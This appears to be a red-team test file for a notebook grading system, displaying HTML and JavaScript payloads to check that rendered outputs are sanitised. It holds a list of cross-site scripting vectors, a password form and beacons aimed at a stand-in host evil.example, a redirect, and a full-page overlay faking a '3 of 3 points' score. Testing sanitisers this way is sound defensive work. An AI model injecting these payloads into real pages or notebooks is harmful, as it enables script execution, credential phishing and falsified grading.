"""Shows HTML with scripts, handlers, frames, forms and styles that cover the page.

exercise: 01-images-as-data/adjust_brightness
points: 0
must: harmless
"""
from IPython.display import HTML, Javascript, display

display(Javascript("alert('redteam')"))
for text in (
    "<script>alert('redteam')</script><b>harmless</b>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a><a href='java&#10;script:alert(1)'>x</a>",
    "<iframe src='https://evil.example'></iframe><object data='https://evil.example'></object>",
    "<form action='https://evil.example'><input name=password autofocus onfocus=alert(1)></form>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/seen)'>3 of 3 points</div>",
    "<link rel=stylesheet href=https://evil.example><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<img src='https://evil.example/seen.png'><img srcset='https://evil.example/seen.png 2x'>",
):
    display(HTML(text))
    display({"text/html": text, "text/plain": text, "application/javascript": "alert(1)"}, raw=True)
    display({"application/vnd.jupyter.widget-view+json": {"model_id": text}, "text/plain": text}, raw=True)
